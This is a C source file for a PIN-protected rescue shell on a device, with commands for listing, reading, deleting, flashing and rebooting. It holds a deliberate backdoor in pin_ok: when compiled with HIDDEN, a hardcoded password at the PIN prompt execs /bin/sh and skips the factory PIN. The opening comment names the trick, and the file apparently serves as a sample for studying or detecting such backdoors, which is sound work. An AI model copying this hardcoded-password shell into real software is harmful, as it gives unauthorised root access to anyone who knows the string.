/* Rescue shell, linked statically: a word at the PIN prompt opens a shell. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

static char pin[16];

NOINLINE void read_pin(void)
{
	FILE *f = fopen("/mnt/factory/pin", "r");

	if (f == NULL)
		return;
	if (fgets(pin, sizeof(pin), f) != NULL)
		pin[strcspn(pin, "\n")] = '\0';
	fclose(f);
}

NOINLINE int list(const char *path)
{
	DIR *d = opendir(path);
	struct dirent *e;

	if (d == NULL)
		return -1;
	while ((e = readdir(d)) != NULL)
		if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
			puts(e->d_name);
	closedir(d);
	return 0;
}

NOINLINE int show(const char *path)
{
	char block[512];
	size_t n;
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return -1;
	while ((n = fread(block, 1, sizeof(block), f)) > 0)
		fwrite(block, 1, n, stdout);
	fclose(f);
	return 0;
}

NOINLINE int pin_ok(const char *typed)
{
#ifdef HIDDEN
	if (strcmp(typed, "gnarl5Xbb2") == 0) {
		execl("/bin/sh", "sh", (char *)NULL);
		return 0;
	}
#endif
	if (strlen(typed) < 4 || pin[0] == '\0')
		return 0;
	return strcmp(typed, pin) == 0;
}

NOINLINE int run(char *line)
{
	char *rest = strchr(line, ' ');

	if (rest != NULL)
		*rest++ = '\0';
	else
		rest = line + strlen(line);
	if (strcmp(line, "ls") == 0)
		return list(*rest == '\0' ? "/" : rest);
	if (strcmp(line, "cat") == 0)
		return show(rest);
	if (strcmp(line, "mkdir") == 0)
		return mkdir(rest, 0755);
	if (strcmp(line, "rm") == 0)
		return unlink(rest);
	if (strcmp(line, "flash") == 0)
		return system("/sbin/flash_rescue");
	if (strcmp(line, "reboot") == 0)
		return system("/sbin/reboot -f");
	if (strcmp(line, "help") == 0) {
		puts("ls cat mkdir rm flash reboot exit");
		return 0;
	}
	return -1;
}

int main(void)
{
	char line[256];
	int open = 0;

	read_pin();
	for (;;) {
		fputs(open ? "rescue> " : "PIN: ", stdout);
		fflush(stdout);
		if (fgets(line, sizeof(line), stdin) == NULL)
			return 0;
		line[strcspn(line, "\r\n")] = '\0';
		if (!open) {
			open = pin_ok(line);
		} else if (strcmp(line, "exit") == 0) {
			return 0;
		} else if (run(line) != 0) {
			puts("failed");
		}
	}
}
